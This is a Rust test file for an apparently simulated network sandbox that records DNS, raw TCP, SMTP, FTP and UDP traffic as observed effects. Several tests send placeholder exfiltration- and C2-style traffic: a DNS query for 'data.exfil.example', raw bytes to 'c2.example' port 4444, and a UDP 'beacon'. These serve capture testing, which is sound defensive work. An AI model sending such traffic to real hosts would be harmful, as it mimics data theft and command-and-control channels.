//! Names, flows, and connections that wait to be spoken to.

use super::kit::*;
use crate::effect::Kind;
use crate::internet::{Limits, dns};
use std::net::SocketAddr;
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

fn question(name: &str) -> Vec<u8> {
    let mut packet = vec![0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in name.split('.') {
        packet.push(label.len() as u8);
        packet.extend(label.as_bytes());
    }
    packet.extend([0, 0, 1, 0, 1]);
    packet
}

#[tokio::test]
async fn questions_are_effects_over_every_transport() {
    let place = place();
    let resolver: SocketAddr = "9.9.9.9:53".parse().unwrap();
    let packet = question("data.exfil.example");
    let shared = place.world.shared();
    let udp = dns::resolve(shared, &packet, "udp", resolver).unwrap();

    let framed = [&[0, packet.len() as u8][..], &packet].concat();
    let mut tcp = place.dial_address(resolver);
    tcp.write_all(&framed).await.unwrap();
    let mut over_tcp = vec![0; udp.len() + 2];
    tcp.read_exact(&mut over_tcp).await.unwrap();
    assert_eq!(over_tcp[2..], udp);

    let tls = tls_client(&place.ca, &[]);
    let dot = place.dial("dns.example", 853);
    let mut dot = tls.connect(name("dns.example"), dot).await.unwrap();
    dot.write_all(&framed).await.unwrap();
    dot.read_exact(&mut over_tcp).await.unwrap();
    assert_eq!(over_tcp[2..], udp);

    let head = format!(
        "POST /dns-query HTTP/1.1\r\nHost: dns.example\r\nContent-Type: application/dns-message\r\n\
         Content-Length: {}\r\n\r\n",
        packet.len()
    );
    say(
        place.dial("dns.example", 80),
        &[head.as_bytes(), &packet].concat(),
    )
    .await;
    let json = "GET /resolve?name=data.exfil.example&type=A HTTP/1.1\r\nHost: dns.example\r\n\r\n";
    let answer = say(place.dial("dns.example", 80), json.as_bytes()).await;
    let at = shared.names.resolve("data.exfil.example").unwrap();
    assert!(
        answer.contains(&format!(r#""data":"{}""#, at.v4)),
        "{answer}"
    );

    let seen = place.seen.snapshot();
    let transports: Vec<&str> = seen
        .iter()
        .filter_map(|k| match k {
            Kind::Dns(dns) => {
                assert_eq!(dns.name, "data.exfil.example");
                assert_eq!(dns.answers, [at.v4.to_string()]);
                Some(dns.transport.as_str())
            }
            _ => None,
        })
        .collect();
    assert_eq!(transports, ["udp", "tcp", "dot", "doh", "doh"]);
}

#[tokio::test]
async fn unknown_bytes_are_kept_and_cut_by_call() {
    let place = place();
    let mut stream = place.dial("c2.example", 4444);
    stream.write_all(b"\x00first").await.unwrap();
    place.rest().await;
    assert!(place.seen.snapshot().is_empty());
    place.world.cut();
    let flow = place.flow().await;
    assert_eq!(
        (flow.protocol.as_str(), &*flow.sent.text()),
        ("raw", "\0first")
    );
    assert_eq!(flow.peer.host.as_deref(), Some("c2.example"));
    place.seen.take();
    place.world.cut();
    assert!(place.seen.snapshot().is_empty());
    stream.write_all(b"second").await.unwrap();
    drop(stream);
    assert_eq!(place.flow().await.sent.text(), "second");
}

#[tokio::test]
async fn a_silent_connection_is_told_once_and_does_not_count_as_busy() {
    let place = place();
    let stream = place.dial("c2.example", 443);
    assert_eq!(place.world.busy(), 1);
    place.rest().await;
    place.world.cut();
    assert_eq!(place.flow().await.protocol, "silent");
    drop(stream);
    place.seen.take();
    let gone = place.dial("c2.example", 443);
    drop(gone);
    assert_eq!(place.flow().await.protocol, "silent");
}

#[tokio::test]
async fn who_waits_to_be_spoken_to_is() {
    let limits = Limits {
        silence: Duration::from_millis(1),
        ..Limits::default()
    };
    let place = place_with(Vec::new(), limits);
    let mut stream = place.dial("mail.example", 10025);
    assert!(
        read_until(&mut stream, "\r\n")
            .await
            .starts_with("220 mail.example")
    );
    stream.write_all(b"EHLO x\r\n").await.unwrap();
    read_until(&mut stream, "250 SMTPUTF8\r\n").await;
    stream
        .write_all(b"MAIL FROM:<a@b.example>\r\nQUIT\r\n")
        .await
        .unwrap();
    assert_eq!(place.mail().await.mail_from, "a@b.example");

    let mut stream = place.dial("files.example", 2121);
    read_until(&mut stream, "\r\n").await;
    stream.write_all(b"USER alex\r\n").await.unwrap();
    assert!(read_until(&mut stream, "\r\n").await.starts_with("331"));
    stream.write_all(b"PASS secret\r\nQUIT\r\n").await.unwrap();
    let flow = place.flow().await;
    assert_eq!(flow.protocol, "ftp");
    assert!(flow.sent.text().contains("PASS secret"));
    assert!(flow.received.text().starts_with("220 files.example"));
}

#[tokio::test]
async fn known_ports_speak_at_once() {
    let place = place();
    for (port, words) in [(21, "220 "), (110, "+OK"), (143, "* OK"), (22, "SSH-2.0")] {
        let mut stream = place.dial("host.example", port);
        assert!(
            read_until(&mut stream, "\n").await.starts_with(words),
            "{port}"
        );
    }
}

#[tokio::test]
async fn closing_tells_what_is_open() {
    let place = place();
    let mut raw = place.connect().await;
    raw.write_all(b"\x01held").await.unwrap();
    let mut half = place.connect().await;
    half.write_all(b"POST /h HTTP/1.1\r\nHost: a.example\r\nContent-Length: 9\r\n\r\nhalf")
        .await
        .unwrap();
    // Both have been taken up once nothing but the half request is under way.
    for _ in 0..2000 {
        if place.world.stats().requests == 1 && place.world.busy() == 1 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(5)).await;
    }
    let seen = std::sync::Arc::clone(&place.seen);
    place.world.close().await;
    let seen = seen.take();
    assert!(
        seen.iter()
            .any(|k| matches!(k, Kind::Flow(f) if f.sent.text() == "\u{1}held")),
        "{seen:?}"
    );
    assert!(
        seen.iter()
            .any(|k| matches!(k, Kind::Http(h) if h.body.text() == "half")),
        "{seen:?}"
    );
}

#[tokio::test]
async fn datagrams_are_told_with_where_they_went() {
    let place = place();
    let ours = tokio::net::UdpSocket::bind("127.0.0.1:0").await.unwrap();
    ours.send_to(b"beacon", place.udp).await.unwrap();
    let told = place
        .wait(|k| match k {
            Kind::Datagram(datagram) => Some(datagram.clone()),
            _ => None,
        })
        .await;
    assert_eq!(
        (told.protocol.as_str(), &*told.payload.text()),
        ("udp", "beacon")
    );
    assert_eq!(told.peer.address, place.udp);
}
